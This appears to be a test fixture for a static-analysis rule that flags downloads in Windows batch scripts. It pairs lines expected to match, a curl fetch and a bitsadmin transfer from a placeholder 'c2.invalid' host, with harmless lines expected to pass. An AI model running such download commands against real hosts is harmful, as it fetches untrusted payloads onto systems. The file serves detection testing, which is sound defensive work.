rem ruleid: bat-download
curl -L -o a.zip https://get.invalid/a.zip
rem ruleid: bat-download
@bitsadmin /transfer j https://c2.invalid/x a
rem ok: bat-download
rem curl https://get.invalid
rem ok: bat-download
where curl
rem ok: bat-download
echo https://get.invalid
